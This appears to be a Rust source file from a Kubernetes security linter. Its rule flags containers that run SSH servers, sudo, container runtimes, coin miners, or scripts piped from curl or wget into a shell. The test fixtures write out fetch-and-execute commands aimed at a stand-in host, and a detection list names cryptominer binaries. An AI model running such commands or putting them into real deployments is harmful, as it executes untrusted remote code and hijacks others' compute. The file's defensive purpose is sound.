//! Programs that have no business in a container.

use crate::prelude::*;

pub(super) static CHECK: Check = Check {
    rule: Rule {
        id: "CTR-COMMAND",
        title: "container runs what does not belong in one",
        severity: Severity::Medium,
        concern: "an SSH server or sudo opens a second way in or up, a container runtime wants the node's \
                  rights, and what is downloaded and run at start is nobody's release",
        fix: "build what is needed into the image; use `kubectl exec` instead of SSH, and a user with the \
              right it needs instead of sudo",
        maps_to: &["NSA/CISA Kubernetes Hardening: Pod security"],
    },
    ask: Ask::Container(ask),
    bad: &[
        "command: [/usr/sbin/sshd, -D]",
        "command: [/tini, --, sshd]",
        "command: [sh, -c, \"service x start && sudo -u app /app\"]",
        "command: [sh]\nargs: [-ec, \"curl -sSf https://x.example/i.sh?a=1&b=2 | sudo bash -s --\"]",
        "command: [bash, -c, 'bash <(wget -qO- https://x.example)']",
        "command: [sh, -c, 'eval \"$(curl -s x.example)\"']",
        "args: [--url, \"stratum+tcp://pool.example:3333\"]",
        "lifecycle: {postStart: {exec: {command: [dockerd]}}}",
    ],
    good: &[
        "command: [/app, --sudo, sshd]",
        "command: [sh, -c, \"echo sudo; curl -f localhost/healthz || sh -c 'exit 1'\"]",
        "command: [sh, -c, \"curl -s localhost | grep ok\"]",
        "command: [sh, -c, \"curl -so a.tar x.example && bash run.sh\"]",
        "args: [\"run | sudo bash\"]",
        "command: \"sudo\"",
        "command: [/app]\nargs: [sudo]",
        "args: [sh, sshd]",
    ],
};

const PROGRAMS: &[(&str, &str)] = &[
    ("sshd", "an SSH server"),
    ("dropbear", "an SSH server"),
    ("sudo", "which makes root of its user"),
    ("dockerd", "a container runtime"),
    ("dockerd-entrypoint.sh", "a container runtime"),
    ("xmrig", MINER),
    ("xmr-stak", MINER),
    ("minerd", MINER),
    ("cpuminer", MINER),
    ("cgminer", MINER),
    ("bfgminer", MINER),
    ("ethminer", MINER),
    ("nbminer", MINER),
    ("t-rex", MINER),
    ("kdevtmpfsi", MINER),
];

const MINER: &str = "a miner of coins";

const SHELLS: &[&str] = &[
    "sh", "bash", "ash", "dash", "zsh", "ksh", "eval", "source", ".", "python", "python3", "perl",
    "ruby", "node", "php",
];

const LOADERS: &[&str] = &["curl", "wget"];

/// Programs and words of shells that run what follows.
const WRAPPERS: &[&str] = &[
    "--",
    "!",
    "command",
    "do",
    "dumb-init",
    "else",
    "env",
    "exec",
    "gosu",
    "if",
    "nice",
    "nohup",
    "setsid",
    "su-exec",
    "then",
    "time",
    "tini",
    "until",
    "while",
];

fn ask(container: &Container<'_>, hits: &mut Hits<'_>) {
    let items = |path: &[&str]| container.get(path).map(Node::items).unwrap_or_default();
    let (command, args) = (["command"], ["args"]);
    // what the program gets as arguments follows on its command
    let lists = [(&command[..], items(&command)), (&args[..], items(&args))];
    look(container, &lists, hits);
    for (path, action) in container.actions() {
        if let Some(nodes) = below(action, &["exec", "command"]).map(Node::items) {
            let path = [path, &["exec", "command"]].concat();
            look(container, &[(&path, nodes)], hits);
        }
    }
}

/// Looks at the words of a command, given as lists with their ways: its program, and its scripts.
fn look(container: &Container<'_>, lists: &[(&[&str], &[Node])], hits: &mut Hits<'_>) {
    let words = || {
        lists.iter().flat_map(|(path, nodes)| {
            let nodes = nodes.iter().enumerate();
            nodes.map(|(index, node)| (*path, index, node.as_str().unwrap_or_default()))
        })
    };
    let at = |path, index| container.at().below(path).item(index);
    let found = program(words().map(|(_, _, text)| text)).and_then(known);
    if let (Some(found), Some((path, index, _))) = (found, words().next()) {
        hits.push(hit(at(path, index), found));
    }
    let mut last = "";
    for (path, index, text) in words() {
        // `-c`, `-ec`, `-lc`
        let is_script = last.len() < 5 && last.starts_with('-') && last.ends_with('c');
        let found = if text.contains("stratum+") {
            Some(("stratum", MINER))
        } else if is_script {
            in_script(text)
        } else {
            None
        };
        if let Some(found) = found {
            hits.push(hit(at(path, index), found));
        }
        last = text;
    }
}

fn hit(at: Pointer, (name, what): (&str, &str)) -> Hit {
    let hit = Hit::new(at, format!("it runs `{}`, {what}", short(name)));
    if what == MINER {
        hit.severity(Severity::High)
    } else {
        hit
    }
}

/// Returns the program that a command runs, without its directory.
fn program<'t>(words: impl Iterator<Item = &'t str>) -> Option<&'t str> {
    words
        .map(|word| word.trim_matches(['"', '\'', '(', ')', '{', '}', '`', '$']))
        .map(|word| word.rsplit('/').next().unwrap_or(word))
        .find(|word| {
            let is_setting = word.contains('=') || word.starts_with('-');
            !word.is_empty() && !is_setting && !WRAPPERS.contains(word)
        })
}

/// Returns what is wrong with a program, with its name.
fn known(program: &str) -> Option<(&'static str, &'static str)> {
    let mut programs = PROGRAMS.iter();
    programs.find(|(name, _)| *name == program).copied()
}

/// Looks at the commands of a script; quotes are not understood.
fn in_script(script: &str) -> Option<(&'static str, &'static str)> {
    let script = script.replace("&&", "\n").replace("||", "\n");
    let mut statements = script.split(['\n', ';']);
    statements.find_map(|statement| {
        let mut loads = false;
        for command in statement.split('|') {
            let mut name = program(command.split_whitespace());
            let is_sudo = name == Some("sudo");
            if is_sudo {
                let behind = command
                    .split_whitespace()
                    .skip_while(|word| !word.ends_with("sudo"));
                name = program(behind.skip(1));
            }
            let is_shell = name.is_some_and(|name| SHELLS.contains(&name));
            if is_shell && (loads || substitutes_load(command)) {
                return Some(("curl | sh", "a program from the network"));
            }
            if is_sudo {
                return known("sudo");
            }
            if let Some(found) = name.and_then(known) {
                return Some(found);
            }
            loads |= name.is_some_and(|name| LOADERS.contains(&name));
        }
        None
    })
}

/// Whether a command runs what `curl` or `wget` prints: `bash <(curl …)`, `eval "$(wget …)"`.
fn substitutes_load(command: &str) -> bool {
    let starts = ["$(curl", "$(wget", "<(curl", "<(wget", "`curl", "`wget"];
    starts.iter().any(|start| command.contains(start))
}
